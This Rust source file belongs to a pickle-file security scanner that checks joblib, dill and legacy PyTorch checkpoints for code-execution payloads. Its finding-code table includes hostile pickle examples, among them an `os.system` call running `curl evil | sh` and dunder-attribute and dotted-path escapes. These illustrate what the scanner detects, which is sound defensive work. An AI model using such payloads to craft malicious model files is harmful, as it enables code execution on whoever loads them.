#![warn(
    clippy::indexing_slicing,
    clippy::unwrap_used,
    clippy::arithmetic_side_effects,
    clippy::panic
)]
//! The pickle scanner: raw pickles under any name (joblib, dill and plain pickle files, protocol
//! 0–5, one or many concatenated), legacy `torch.save` streams (magic number, four more pickles,
//! raw storage trailer), and the members of legacy PyTorch tar checkpoints.
//!
//! Each stream is walked by [`crate::pickle::walk`]; this module turns the walk's findings into
//! report findings, reads the non-pickle structure between pickles the way the real loader does,
//! and sends nested payloads (bytes handed to `pickle.loads`, base64 blobs) back through the
//! engine.

use std::io::Read;

use crate::artifact::{Artifact, Content};
use crate::codes::{self, Code};
use crate::error::ScanError;
use crate::finding::Sink;
use crate::finding::{Finding, Severity};
use crate::format::Format;
use crate::formats::torch::{trailer_data_len, TRAILER_COUNT_LEN};
use crate::pickle::walk::{
    Analysis, BlobSource, Class, GlobalUse, IssueKind, Outcome, TopValue, Walker,
};
use crate::scanners::Scanner;
use crate::scanners::ScannerContext;

/// The legacy `torch.save` magic number.
pub const TORCH_MAGIC: i128 = 0x1950_A86A_20F9_469C_FC6C;
/// The legacy `torch.save` protocol version.
pub const TORCH_PROTOCOL_VERSION: i128 = 1001;

macro_rules! code {
    ($name:ident, $id:literal, $sev:ident, $summary:literal, $detects:literal, $why:literal, $example:literal, $fix:literal, [$($r:literal),*]) => {
        pub const $name: Code = Code {
            id: $id,
            severity: Severity::$sev,
            summary: $summary,
            detects: $detects,
            why: $why,
            example: $example,
            remediation: $fix,
            references: &[$($r),*],
        };
    };
}

code!(UNSAFE_GLOBAL, "pickle/unsafe-global", Critical,
    "The pickle imports a global that the signature database denies.",
    "A GLOBAL, STACK_GLOBAL or INST import (after Python 2 name mapping and dotted-path resolution) that matches a deny entry: code execution, processes, name resolvers, nested loaders, package installers, network or file access, framework gadgets, scanner packages. The severity comes from the entry.",
    "Unpickling imports the global and usually calls it: `os.system`, `builtins.eval` or `pip.main` run attacker-chosen commands the moment the file is loaded.",
    "`cos\\nsystem\\n(S'curl evil | sh'\\ntR.`",
    "Do not load the file. Obtain the model in a format without code (safetensors, ONNX) or from a trusted source, and rescan.",
    ["https://docs.python.org/3/library/pickle.html#restricting-globals", "CVE-2025-1716"]);
code!(UNKNOWN_GLOBAL, "pickle/unknown-global", Medium,
    "The pickle imports a global that is neither allowed nor denied.",
    "An import that no signature entry covers. Reported at medium (high with --strict), never silently accepted.",
    "Denylists are always incomplete: new gadgets appear in every library. A global nobody reviewed may run code when it is called or when its __setstate__ runs.",
    "`mylib.utils.helper` imported and called by REDUCE.",
    "Review the global. If it is data-only, add an allow entry with a reason in a signature file passed with --signatures; otherwise treat the file as unsafe.",
    []);
code!(UNRESOLVED_GLOBAL, "pickle/unresolved-global", Critical,
    "A STACK_GLOBAL operand could not be resolved to a string.",
    "STACK_GLOBAL whose module or name operand is not a string literal the walker can follow: a missing memo entry, an int, a call result, or a name too long to keep.",
    "Scanners that guess operands from nearby strings are bypassed by memo indirection and type confusion. When the import cannot be named it cannot be vetted.",
    "`BINGET 7` (never stored) `SHORT_BINUNICODE 'system'` `STACK_GLOBAL` after an `os.system` payload.",
    "Treat the file as hostile: benign pickles always import by literal name.",
    ["https://github.com/mmaitre314/picklescan/issues/22"]);
code!(DUNDER, "pickle/dunder-attribute", Critical,
    "A global's module or attribute path contains a dunder segment.",
    "Imports such as `builtins.__import__`, `numpy.__builtins__` or a dotted path through `__class__`, `__globals__`, `__subclasses__`, `__reduce__`.",
    "Dunder attributes reach interpreter internals: class hierarchies, function globals and the builtins module, from which any function is reachable.",
    "STACK_GLOBAL('builtins', 'print.__class__.__base__.__subclasses__')",
    "Treat the file as hostile.",
    ["https://github.com/protectai/modelscan/issues/330"]);
code!(DOTTED, "pickle/dotted-attribute-path", Critical,
    "A global is a dotted attribute path that no entry allows exactly.",
    "Protocol-4 style names like `pathlib` + `os.system` or `trace` + `Trace.runctx`, which `find_class` resolves attribute by attribute.",
    "An allowed module can re-export anything: `pathlib.os.system` is `os.system`. Scanners that match the module name only are bypassed.",
    "STACK_GLOBAL('pathlib', 'os.system')",
    "Treat the file as hostile unless the exact dotted path is known to be safe (then allow it explicitly).",
    ["GHSA-5j3x-jp52-966f"]);
code!(EXTENSION, "pickle/extension-registry", Critical,
    "The pickle uses the copyreg extension registry (EXT1/EXT2/EXT4).",
    "EXT1, EXT2 or EXT4 opcodes, which look a global up by a number registered with copyreg.add_extension.",
    "The registry is empty in a fresh interpreter, so benign files never use it; a payload that first registers `os.system` under a code can then call it without naming it.",
    "`EXT2 0x7a69` after `copyreg.add_extension('os', 'system', 31337)`.",
    "Treat the file as hostile.",
    []);
code!(FRAME, "pickle/frame-violation", High,
    "An opcode straddles a protocol-4 frame boundary, or a frame opens inside another.",
    "FRAME semantics differ between CPython's C unpickler (reads through) and the pure-Python one (raises), so the two see different opcodes.",
    "Linear parsers that trust FRAME lengths can be shown a harmless byte string while CPython executes what is inside it.",
    "A BINBYTES whose declared length runs past the end of its FRAME.",
    "Treat the file as tampered: pickle writers never produce this.",
    ["https://github.com/trailofbits/fickling/pull/317"]);
code!(MALFORMED, "pickle/malformed", Medium,
    "The pickle is malformed (the loader raises part-way).",
    "Invalid opcodes, truncated arguments, stack or mark underflow, missing memo keys.",
    "Everything before the error is executed by the loader, so findings before it stand. Malformations are also used to make scanners give up (payload then garbage).",
    "`cos\\nsystem\\n(S'id'\\ntR\\xff`",
    "Re-export the file; if it comes from an untrusted source, treat it as hostile.",
    []);
code!(TRAILING, "pickle/trailing-data", Medium,
    "Bytes follow the last pickle that are not a valid pickle.",
    "Data after a STOP opcode that does not start another pickle.",
    "Scanners that stop at the first STOP (or fail on the trailer) miss payloads; some drop every finding when the trailer confuses them.",
    "A valid pickle followed by 12 bytes of junk.",
    "Find out what the extra bytes are; re-export the file.",
    []);
code!(SETSTATE_ON_GLOBAL, "pickle/setstate-on-global", Critical,
    "BUILD is applied to an imported object itself (module, class or function).",
    "A BUILD whose target is a global rather than an instance created in the pickle.",
    "BUILD on an imported object calls its __setstate__ or updates its __dict__: a pickle can overwrite module attributes or class internals (\"overwritten modules\").",
    "`cos\\npath\\n}(Vjoin\\n...u b`",
    "Treat the file as hostile.",
    []);
code!(INDIRECT_CALL, "pickle/indirect-call", High,
    "A call's target is itself computed (the result of another call or an unresolved value).",
    "REDUCE/NEWOBJ/OBJ on a value that is not an imported global: `getattr(x, 'y')(…)`, `methodcaller(...)(obj)`, calls on unresolved operands.",
    "Chained calls are how gadgets are assembled from innocuous-looking parts.",
    "REDUCE on the result of `operator.attrgetter('system')(os_module)`.",
    "Treat the file as hostile unless you understand the chain.",
    []);
code!(OPAQUE_NESTED, "pickle/opaque-nested-input", High,
    "A nested loader receives input the scanner cannot see.",
    "A call to `pickle.loads`, `torch.load`, `joblib.load`, … whose argument is not a literal byte string (a computed value, a path, an unresolved operand).",
    "The nested payload is loaded at runtime and never scanned.",
    "`pickle.loads(zlib.decompress(some_call()))`",
    "Treat the file as hostile.",
    []);
code!(EMBEDDED, "pickle/embedded-payload", Info,
    "A base64 or hex string in the pickle decodes to a loadable payload, which was scanned.",
    "String or bytes values whose decoded form starts like a pickle, zip, gzip stream or npy file.",
    "Encoded payloads hide nested pickles from byte-pattern scanners. The decoded content's own findings are reported under this location.",
    "`pickle.loads(base64.b64decode('gASV...'))`",
    "Review the nested findings.",
    []);
code!(
    TRUNCATED_BLOB,
    "pickle/unscanned-blob",
    Medium,
    "An encoded or nested payload was too large to decode and scan completely.",
    "A base64/hex string longer than the kept prefix whose start decodes to a loadable payload.",
    "The part that was not decoded was not scanned.",
    "A 40 MB base64 string holding a pickle.",
    "Inspect the payload by hand.",
    []
);
code!(JOBLIB_UNRESOLVED, "pickle/joblib-array-unresolved", High,
    "A joblib array wrapper's size cannot be determined, so the data after it cannot be skipped as joblib does.",
    "BUILD on `joblib.numpy_pickle.NumpyArrayWrapper` whose state lacks a readable shape or numpy dtype.",
    "joblib reads raw bytes after the wrapper and then resumes unpickling: without the exact size the rest of the stream is unknown, and a payload may hide after the array.",
    "A NumpyArrayWrapper whose dtype is built by a REDUCE the scanner does not model.",
    "Treat the file as inconclusive; re-export it with a current joblib.",
    []);
code!(JOBLIB_SIDE_FILE, "pickle/joblib-side-file", Info,
    "A legacy joblib array wrapper refers to a separate file.",
    "NDArrayWrapper/ZNDArrayWrapper (joblib < 0.10) with a `filename` attribute, set by the BUILD state or by the wrapper's constructor argument; raised to high when the name is absolute, climbs out of the directory or is not a literal string.",
    "joblib loads the named file with numpy (object arrays with allow_pickle), so the side file must be scanned too and must not point elsewhere.",
    "`NDArrayWrapper` state `{'filename': '../../x.npy'}`",
    "Scan the side files; never load a wrapper whose file name leaves the model directory.",
    []);
code!(JOBLIB_DIFFERENTIAL, "pickle/joblib-differential", High,
    "Bytes that joblib skips as array data are opcodes to pickle.load.",
    "The padding or raw data after a NumpyArrayWrapper starts with opcodes that import globals when read by `pickle.load` instead of `joblib.load`.",
    "The same file behaves differently under two loaders; the globals reached this way are reported too.",
    "A wrapper without alignment whose 'array data' is `cos\\nsystem\\n…`.",
    "Treat the file as hostile.",
    []);
code!(
    OUT_OF_BAND,
    "pickle/out-of-band-buffer",
    Low,
    "The pickle expects out-of-band buffers (NEXT_BUFFER/READONLY_BUFFER).",
    "Protocol-5 buffer opcodes whose data is not in the file.",
    "The content of such buffers is supplied by the loading program and was not scanned.",
    "`NEXT_BUFFER` in a numpy array pickle made with buffer_callback.",
    "Re-export the file with in-band buffers.",
    []
);
code!(TORCH_MAGIC_COMPUTED, "pickle/torch-magic-computed", High,
    "A legacy PyTorch file's magic number is computed rather than a literal.",
    "The first pickle of a legacy torch stream evaluates to the magic number through a call (eval, int(…), REDUCE) instead of a LONG literal.",
    "Scanners that require the literal magic skip the file as \"not PyTorch\" while torch.load executes it.",
    "`cbuiltins\\neval\\n(V0x1950A86A20F9469CFC6C\\ntR.` followed by the rest of a checkpoint.",
    "Treat the file as hostile.",
    ["GHSA-97f8-7cmv-76j2"]);
code!(TORCH_STRUCTURE, "pickle/torch-legacy-structure", Medium,
    "A legacy PyTorch checkpoint does not have the structure torch.load reads.",
    "Missing or unexpected pickles after the magic number, a protocol version other than 1001, storage keys that no tensor references, or a raw storage trailer whose sizes do not add up.",
    "torch.load reads these parts in a fixed order; a file that deviates was not written by torch and may hide data where a scanner does not look.",
    "A legacy checkpoint whose storage trailer is shorter than its declared element counts.",
    "Re-export the checkpoint with a current torch (zip format) or as safetensors.",
    []);

/// Every code of the pickle scanner.
pub static CODES: &[&Code] = &[
    &UNSAFE_GLOBAL,
    &UNKNOWN_GLOBAL,
    &UNRESOLVED_GLOBAL,
    &DUNDER,
    &DOTTED,
    &EXTENSION,
    &FRAME,
    &MALFORMED,
    &TRAILING,
    &SETSTATE_ON_GLOBAL,
    &INDIRECT_CALL,
    &OPAQUE_NESTED,
    &EMBEDDED,
    &TRUNCATED_BLOB,
    &JOBLIB_UNRESOLVED,
    &JOBLIB_SIDE_FILE,
    &JOBLIB_DIFFERENTIAL,
    &OUT_OF_BAND,
    &TORCH_MAGIC_COMPUTED,
    &TORCH_STRUCTURE,
];

pub struct PickleScanner;

impl Scanner for PickleScanner {
    fn id(&self) -> &'static str {
        "pickle"
    }
    fn formats(&self) -> &'static [Format] {
        &[
            Format::Pickle,
            Format::PytorchLegacy,
            Format::TorchTarMember,
        ]
    }
    fn codes(&self) -> &'static [&'static Code] {
        CODES
    }
    fn scan(&self, a: &Artifact, cx: &dyn ScannerContext, out: &mut Sink) -> Result<(), ScanError> {
        let limit = cx.limits().max_pickle_bytes;
        let input = a.content.open()?.take(limit);
        let policy = &cx.policies().pickle;
        let mut w = Walker::new(input, policy, cx.walk_limits());
        let mut notes: Vec<Finding> = Vec::new();
        let member = a.name.trim_start_matches("./");
        if a.format == Format::TorchTarMember && (member == "storages" || member == "tensors") {
            tar_member(&mut w, member == "storages", a, &mut notes);
        } else {
            stream(&mut w, a, &mut notes);
        }
        let analysis = w.finish();
        if a.content.len() > limit && analysis.bytes >= limit {
            notes.push(
                Finding::new(
                    &codes::engine::BUDGET_EXCEEDED,
                    a.location.at(limit),
                    format!("only the first {limit} bytes of the pickle stream were analysed"),
                )
                .evidence("limit", "max-pickle-bytes"),
            );
        }
        report(&analysis, a, cx, out);
        for f in notes {
            out.push(f);
        }
        Ok(())
    }
}

/// What the fallback pickle reading of non-pickle bytes concluded.
#[derive(Debug, Clone)]
pub struct Fallback {
    /// The bytes are a pickle a loader would actually run: something is imported before the
    /// first error the C unpickler raises on, and either a call applies it or a pickle is complete
    /// to STOP; or the whole content reads as pickles to its end. The full policy was applied.
    pub runnable: bool,
    /// Where and why the reading stopped before the end, when it did.
    pub stopped: Option<(u64, String)>,
}

/// Walks bytes that were not identified as a pickle by their structure, from offset 0, as
/// `pickle.load` would, and as `torch.load`, `numpy.load(allow_pickle=True)` and `joblib.load` do
/// when their own magic is absent. Sniffing never decides that bytes are harmless, so every
/// artifact that a pickle loader could start on comes here (see [`crate::readings`]).
///
/// Text is not a pickle: a label file `cat\ndog\n` reads as the import `at.dog` followed by
/// an error. So the full policy applies only when the stream is one a loader would run (see
/// [`Fallback::runnable`]); otherwise only imports the signature database denies are reported,
/// since the import alone runs module code.
pub fn scan_fallback(
    a: &Artifact,
    cx: &dyn ScannerContext,
    out: &mut Sink,
) -> Result<Fallback, ScanError> {
    let limit = cx.limits().max_pickle_bytes;
    let input = a.content.open()?.take(limit);
    let policy = &cx.policies().pickle;
    let mut w = Walker::new(input, policy, cx.walk_limits());
    let mut notes: Vec<Finding> = Vec::new();
    stream(&mut w, a, &mut notes);
    let an = w.finish();
    // The C unpickler raises at the first malformation or read error; nothing after it runs.
    let first_error = an
        .issues
        .iter()
        .filter(|i| {
            matches!(
                i.kind,
                IssueKind::Malformed { .. }
                    | IssueKind::ReadFailed { .. }
                    | IssueKind::TrailingData { .. }
            )
        })
        .map(|i| i.offset)
        .min();
    let before = |o: u64| first_error.is_none_or(|e| o < e);
    let imported = an.globals.iter().any(|g| before(g.first_offset));
    let complete = an
        .pickles
        .iter()
        .any(|p| p.result.is_some() && before(p.end.saturating_sub(1)));
    let called = an
        .globals
        .iter()
        .any(|g| g.call_sites.iter().any(|(o, _)| before(*o)))
        || an.issues.iter().any(|i| {
            matches!(
                i.kind,
                IssueKind::IndirectCall { .. } | IssueKind::OpaqueNestedInput { .. }
            ) && before(i.offset)
        });
    let runnable = imported && (complete || called);
    // The whole stream reads as pickles to its end: a pickle (perhaps of plain data), whatever
    // opcode it starts with.
    let whole = first_error.is_none() && !an.pickles.is_empty() && an.complete;
    let stopped = an
        .issues
        .iter()
        .filter(|i| {
            matches!(
                i.kind,
                IssueKind::ReadFailed { .. } | IssueKind::TrailingData { .. }
            )
        })
        .min_by_key(|i| i.offset)
        .map(|i| {
            let msg = match &i.kind {
                IssueKind::ReadFailed { message } | IssueKind::TrailingData { message, .. } => {
                    message.clone()
                }
                _ => String::new(),
            };
            (i.offset, msg)
        });
    if runnable || whole {
        report(&an, a, cx, out);
        for f in notes {
            out.push(f);
        }
    } else {
        for g in &an.globals {
            if matches!(g.class, Class::Denied(_) | Class::Dunder(_)) {
                if let Some(f) = global_finding(g, a, cx) {
                    out.push(f.evidence(
                        "reading",
                        "not identified as a pickle by structure; walked as one because pickle loaders accept any first opcode",
                    ));
                }
            }
        }
    }
    Ok(Fallback {
        runnable: runnable || whole,
        stopped,
    })
}

/// A plain stream: every pickle until EOF. A first pickle that evaluates to the legacy torch
/// magic number (a literal, or a call followed by the protocol-version pickle) switches to the
/// legacy layout, whatever the file was sniffed as.
fn stream<R: Read>(w: &mut Walker<'_, R>, a: &Artifact, notes: &mut Vec<Finding>) {
    let first = match w.next_pickle() {
        Outcome::Pickle(p) => p,
        Outcome::Eof | Outcome::Stopped => return,
    };
    let mut is_legacy = false;
    if matches!(first.result, Some(TopValue::Int(v)) if v == TORCH_MAGIC) {
        is_legacy = true;
        legacy_torch(w, a, notes, None);
    } else if matches!(first.result, Some(TopValue::Call { .. })) && !w.at_eof() {
        if let Outcome::Pickle(second) = w.next_pickle() {
            if second.result == Some(TopValue::Int(TORCH_PROTOCOL_VERSION)) {
                is_legacy = true;
                notes.push(
                    Finding::new(
                        &TORCH_MAGIC_COMPUTED,
                        a.location.at(first.start),
                        "the first pickle of this legacy PyTorch stream computes its magic number with a call instead of a literal; scanned as a legacy checkpoint anyway",
                    )
                    .evidence("first-value", format!("{:?}", first.result)),
                );
                legacy_torch(w, a, notes, Some(second));
            }
        }
    }
    if a.format == Format::PytorchLegacy && !is_legacy {
        notes.push(
            Finding::new(
                &TORCH_STRUCTURE,
                a.location.at(first.start),
                "the stream starts like a legacy PyTorch checkpoint but its first pickle is not the magic number",
            )
            .evidence("first-value", format!("{:?}", first.result)),
        );
    }
    while let Outcome::Pickle(_) = w.next_pickle() {}
}

/// Legacy `torch.save`: protocol version, sys_info, the object, storage keys, then per key an
/// int64 element count and the raw bytes.
fn legacy_torch<R: Read>(
    w: &mut Walker<'_, R>,
    a: &Artifact,
    notes: &mut Vec<Finding>,
    version: Option<crate::pickle::walk::PickleInfo>,
) {
    let structure = |notes: &mut Vec<Finding>, at: u64, msg: String| {
        notes.push(Finding::new(&TORCH_STRUCTURE, a.location.at(at), msg));
    };
    let version = match version {
        Some(v) => v,
        None => match w.next_pickle() {
            Outcome::Pickle(v) => v,
            _ => {
                let at = w.reader().offset();
                structure(notes, at, "the protocol-version pickle is missing".into());
                return;
            }
        },
    };
    if version.result != Some(TopValue::Int(TORCH_PROTOCOL_VERSION)) {
        structure(
            notes,
            version.start,
            format!(
                "protocol version is {:?}, torch.load requires 1001",
                version.result
            ),
        );
    }
    let Outcome::Pickle(sys_info) = w.next_pickle() else {
        structure(notes, version.end, "the sys_info pickle is missing".into());
        return;
    };
    let little_endian = match &sys_info.result {
        Some(TopValue::Dict(items)) => items
            .iter()
            .find(|(k, _)| *k == TopValue::Str("little_endian".into()))
            .is_none_or(|(_, v)| *v != TopValue::Bool(false)),
        _ => true,
    };
    let storages_before = w.analysis().storages.len();
    let Outcome::Pickle(main) = w.next_pickle() else {
        structure(
            notes,
            sys_info.end,
            "the main object pickle is missing".into(),
        );
        return;
    };
    let Outcome::Pickle(keys) = w.next_pickle() else {
        structure(notes, main.end, "the storage-keys pickle is missing".into());
        return;
    };
    let key_list: Vec<String> = match &keys.result {
        Some(TopValue::List(items)) => items
            .iter()
            .filter_map(|k| match k {
                TopValue::Str(s) => Some(s.clone()),
                _ => None,
            })
            .collect(),
        other => {
            structure(
                notes,
                keys.start,
                format!("the storage-keys pickle is not a list of strings: {other:?}"),
            );
            return;
        }
    };
    let sizes: std::collections::HashMap<String, Option<u64>> = w
        .analysis()
        .storages
        .get(storages_before..)
        .unwrap_or_default()
        .iter()
        .map(|s| {
            (
                s.key.clone(),
                s.class.as_deref().and_then(storage_elem_size),
            )
        })
        .collect();
    for key in &key_list {
        let at = w.reader().offset();
        let mut buf = Vec::with_capacity(8);
        if !matches!(w.reader().read_raw(TRAILER_COUNT_LEN, &mut buf), Ok(8)) {
            structure(
                notes,
                at,
                format!("the storage trailer ends before the element count of key {key}"),
            );
            w.mark_incomplete();
            return;
        }
        let mut count = [0u8; 8];
        count.copy_from_slice(&buf);
        let Some(elem) = sizes.get(key).copied().flatten() else {
            structure(
                notes,
                at,
                format!("storage key {key} is not referenced by a typed storage in the checkpoint; its size is unknown"),
            );
            w.mark_incomplete();
            return;
        };
        let n = match trailer_data_len(count, little_endian, elem) {
            Ok(n) => n,
            Err(e) => {
                structure(notes, at, format!("storage {key} declares {e}"));
                w.mark_incomplete();
                return;
            }
        };
        if !matches!(w.reader().skip(n), Ok(k) if k == n) {
            structure(
                notes,
                at,
                format!("storage {key} declares {n} bytes but the file ends first"),
            );
            w.mark_incomplete();
            return;
        }
    }
    if !w.at_eof() {
        let at = w.reader().offset();
        structure(
            notes,
            at,
            "bytes follow the storage trailer; torch.load never reads them (they are scanned as pickles)".into(),
        );
    }
}

/// Element size of a torch storage class (`torch.FloatStorage`, `torch.cuda.HalfStorage`), from
/// the table the converter types storages with ([`crate::formats::torch::storage_type`]).
pub fn storage_elem_size(class: &str) -> Option<u64> {
    let name = class.rsplit('.').next()?;
    crate::formats::torch::storage_type(name).map(|t| t.itemsize)
}

/// `storages` and `tensors` members of a legacy torch tar checkpoint.
fn tar_member<R: Read>(
    w: &mut Walker<'_, R>,
    storages: bool,
    a: &Artifact,
    notes: &mut Vec<Finding>,
) {
    let structure = |notes: &mut Vec<Finding>, at: u64, msg: String| {
        notes.push(Finding::new(&TORCH_STRUCTURE, a.location.at(at), msg));
    };
    let Outcome::Pickle(count) = w.next_pickle() else {
        return;
    };
    let n = match count.result {
        Some(TopValue::Int(n)) if n >= 0 => n,
        other => {
            structure(
                notes,
                count.start,
                format!("the record count is not a non-negative int: {other:?}"),
            );
            while let Outcome::Pickle(_) = w.next_pickle() {}
            return;
        }
    };
    let mut i: i128 = 0;
    while i < n {
        i = i.saturating_add(1);
        let Outcome::Pickle(rec) = w.next_pickle() else {
            structure(
                notes,
                w.analysis().bytes,
                format!("the member declares {n} records but holds fewer"),
            );
            return;
        };
        let at = w.reader().offset();
        if storages {
            let elem = match &rec.result {
                Some(TopValue::Tuple(t)) => match t.get(2) {
                    Some(TopValue::Global(g)) => storage_elem_size(g),
                    _ => None,
                },
                _ => None,
            };
            let mut buf = Vec::new();
            if !matches!(w.reader().read_raw(8, &mut buf), Ok(8)) {
                structure(notes, at, "a storage record has no element count".into());
                return;
            }
            let mut le = [0u8; 8];
            le.copy_from_slice(&buf);
            let count = i64::from_le_bytes(le);
            let Some(bytes) = elem.and_then(|e| u64::try_from(count).ok()?.checked_mul(e)) else {
                structure(
                    notes,
                    at,
                    format!(
                        "storage record {:?} has an unknown type or invalid count {count}",
                        rec.result
                    ),
                );
                w.mark_incomplete();
                return;
            };
            if !matches!(w.reader().skip(bytes), Ok(k) if k == bytes) {
                structure(
                    notes,
                    at,
                    "storage data runs past the end of the member".into(),
                );
                return;
            }
        } else {
            let mut buf = Vec::new();
            if !matches!(w.reader().read_raw(8, &mut buf), Ok(8)) {
                structure(notes, at, "a tensor record is truncated".into());
                return;
            }
            let ndim = i32::from_le_bytes([
                buf.first().copied().unwrap_or(0),
                buf.get(1).copied().unwrap_or(0),
                buf.get(2).copied().unwrap_or(0),
                buf.get(3).copied().unwrap_or(0),
            ]);
            let Some(len) = u64::try_from(ndim)
                .ok()
                .and_then(|d| d.checked_mul(16))
                .and_then(|b| b.checked_add(8))
            else {
                structure(notes, at, format!("a tensor record has ndim {ndim}"));
                return;
            };
            if !matches!(w.reader().skip(len), Ok(k) if k == len) {
                structure(notes, at, "a tensor record is truncated".into());
                return;
            }
        }
    }
    // Then (storages) the storage-views pickle; anything else is walked as pickles.
    while let Outcome::Pickle(_) = w.next_pickle() {}
}

/// Turns a walk into findings and scans nested payloads.
fn report(an: &Analysis, a: &Artifact, cx: &dyn ScannerContext, out: &mut Sink) {
    for g in &an.globals {
        if let Some(f) = global_finding(g, a, cx) {
            out.push(f);
        }
    }
    for i in &an.issues {
        let loc = a.location.at(i.offset);
        let pickle = i.pickle.to_string();
        let f = match &i.kind {
            IssueKind::UnresolvedGlobal { detail } => Finding::new(
                &UNRESOLVED_GLOBAL,
                loc,
                format!("STACK_GLOBAL cannot be resolved: {detail}"),
            ),
            IssueKind::Extension { code } => Finding::new(
                &EXTENSION,
                loc,
                format!("extension-registry lookup of code {code} (EXT opcode)"),
            )
            .evidence("extension-code", code.to_string()),
            IssueKind::Frame(fi) => {
                let msg = match fi {
                    crate::pickle::reader::FrameIssue::Straddle { frame_end, .. } => {
                        format!("an opcode crosses the end of its frame (frame ends at {frame_end})")
                    }
                    crate::pickle::reader::FrameIssue::Nested { frame_end, .. } => format!(
                        "a FRAME opens before the previous frame (ending at {frame_end}) is consumed"
                    ),
                };
                Finding::new(&FRAME, loc, msg)
            }
            IssueKind::Malformed { message, count } => Finding::new(
                &MALFORMED,
                loc,
                if *count > 1 {
                    format!("{message} (and {} more errors)", count.saturating_sub(1))
                } else {
                    message.clone()
                },
            ),
            IssueKind::ReadFailed { message } => Finding::new(&MALFORMED, loc, message.clone()),
            IssueKind::TrailingData { message, .. } => {
                let f = Finding::new(
                    &TRAILING,
                    loc,
                    format!("data after the last pickle is not a pickle: {message}"),
                );
                // np.load reads exactly one pickle after an .npy header; old numpy versions
                // leave padding after it.
                if a.name == "npy-pickle" {
                    f.severity(Severity::Info)
                } else {
                    f
                }
            }
            IssueKind::Budget { what } => Finding::new(
                &codes::engine::BUDGET_EXCEEDED,
                loc,
                format!("pickle analysis stopped: the {what} budget is exhausted; the rest of the stream was not analysed"),
            )
            .evidence("limit", if *what == "time" { "max-seconds" } else { what }),
            IssueKind::OutOfBand => Finding::new(
                &OUT_OF_BAND,
                loc,
                "NEXT_BUFFER: the data of this buffer is not in the file",
            ),
            IssueKind::SetstateOnGlobal { global } => Finding::new(
                &SETSTATE_ON_GLOBAL,
                loc,
                format!("BUILD mutates the imported object {global}"),
            ),
            IssueKind::IndirectCall { root } => Finding::new(
                &INDIRECT_CALL,
                loc,
                format!("a call's target is the result of {root}"),
            ),
            IssueKind::OpaqueNestedInput { loader } => Finding::new(
                &OPAQUE_NESTED,
                loc,
                format!("{loader} is called with input that is not a literal byte string"),
            ),
            IssueKind::JoblibUnresolved { detail } => Finding::new(
                &JOBLIB_UNRESOLVED,
                loc,
                format!("joblib array data cannot be skipped: {detail}"),
            ),
            IssueKind::JoblibSideFile {
                filename: Some(filename),
            } => {
                let escapes = crate::walk::is_traversal(filename);
                Finding::new(
                    &JOBLIB_SIDE_FILE,
                    loc,
                    format!("legacy joblib wrapper loads the side file {filename:?}"),
                )
                .severity(if escapes { Severity::High } else { Severity::Info })
                .evidence("filename", filename.clone())
            }
            IssueKind::JoblibSideFile { filename: None } => Finding::new(
                &JOBLIB_SIDE_FILE,
                loc,
                "legacy joblib wrapper loads a side file whose name is not a literal string",
            )
            .severity(Severity::High),
            IssueKind::JoblibDifferential { len } => Finding::new(
                &JOBLIB_DIFFERENTIAL,
                loc,
                format!("{len} bytes that joblib skips as array data import globals when read by pickle.load"),
            ),
            IssueKind::TruncatedBlob { via, len } => Finding::new(
                &TRUNCATED_BLOB,
                loc,
                format!("a {len}-byte {via} payload was too long to decode and scan completely"),
            ),
        };
        out.push(f.evidence("pickle", pickle));
    }
    for n in &an.nested {
        let content = match &n.source {
            BlobSource::Inline(b) => Some(Content::Memory(b.clone())),
            BlobSource::Stream { offset, len } => sub_content(&a.content, *offset, *len),
        };
        let Some(content) = content else { continue };
        let member = format!("{}@{}", n.via, n.offset);
        if !n.loader {
            out.push(
                Finding::new(
                    &EMBEDDED,
                    a.location.at(n.offset),
                    format!(
                        "a {} string decodes to a {}-byte loadable payload; scanned as {member}",
                        n.via,
                        content.len()
                    ),
                )
                .evidence("member", member.clone()),
            );
        }
        let head = content.head(crate::sniff::SNIFF_LEN).unwrap_or_default();
        let hint = if n.loader && crate::sniff::sniff(&head, "") == Format::Unknown {
            Some(Format::Pickle)
        } else {
            None
        };
        cx.scan_nested(a, &member, content, hint, out);
    }
}

/// A byte range of `content` as its own content (zero-copy for files).
fn sub_content(content: &Content, offset: u64, len: u64) -> Option<Content> {
    if offset.checked_add(len)? > content.len() {
        return None;
    }
    content.slice(offset, len).ok()
}

fn global_finding(g: &GlobalUse, a: &Artifact, cx: &dyn ScannerContext) -> Option<Finding> {
    let q = g.qualified();
    let usage = if g.calls > 0 || g.builds > 0 {
        if g.builds > 0 {
            format!("called {}×, {} BUILD(s)", g.calls, g.builds)
        } else {
            format!("called {}×", g.calls)
        }
    } else {
        "imported (not called)".to_owned()
    };
    let head = format!(
        "{q} ({usage}; first {} at offset {})",
        g.opcode.name(),
        g.first_offset
    );
    let (code, sev, msg, rule) = match &g.class {
        Class::Allowed(_) | Class::Tolerated(_) => return None,
        Class::Denied(r) if g.only_name_lookups() => (
            &UNSAFE_GLOBAL,
            Severity::Info,
            format!(
                "{head}: every call is eval('data', {{'data': …}}), how paddle.save stores a LoDTensor: the expression is one name, looked up in the dict the pickle built, so no code runs ({})",
                r.reason
            ),
            Some(r),
        ),
        Class::Denied(r) => (
            &UNSAFE_GLOBAL,
            r.severity.unwrap_or(Severity::Critical),
            format!("{head}: {}", r.reason),
            Some(r),
        ),
        Class::Unknown => (
            &UNKNOWN_GLOBAL,
            cx.unknown_severity(),
            format!("{head} is not in the signature database (neither allowed nor denied)"),
            None,
        ),
        Class::Invalid => (
            &UNKNOWN_GLOBAL,
            cx.unknown_severity(),
            format!("{head}: not a valid module/attribute path (the import fails in CPython)"),
            None,
        ),
        Class::Dunder(seg) => (
            &DUNDER,
            Severity::Critical,
            format!("{head}: the path goes through the dunder attribute {seg}"),
            None,
        ),
        Class::Dotted => (
            &DOTTED,
            Severity::Critical,
            format!("{head}: a dotted attribute path that no signature allows exactly"),
            None,
        ),
    };
    let mut f = Finding::new(code, a.location.at(g.first_offset), msg)
        .severity(sev)
        .global(&g.module, &g.name)
        .evidence("opcode", g.opcode.name())
        .evidence("calls", g.calls.to_string())
        .evidence("references", g.refs.to_string())
        .evidence("pickle", g.pickle.to_string());
    if g.only_name_lookups() {
        f = f.evidence("name-lookups", g.name_lookups.to_string());
    }
    if !g.call_sites.is_empty() {
        let sites: Vec<String> = g
            .call_sites
            .iter()
            .map(|(o, c)| format!("{o}:{}", c.name()))
            .collect();
        f = f.evidence("call-sites", sites.join(" "));
    }
    if g.raw_module != g.module || g.raw_name != g.name {
        // `module:name` — unambiguous even for dotted names (`pathlib:os.system`).
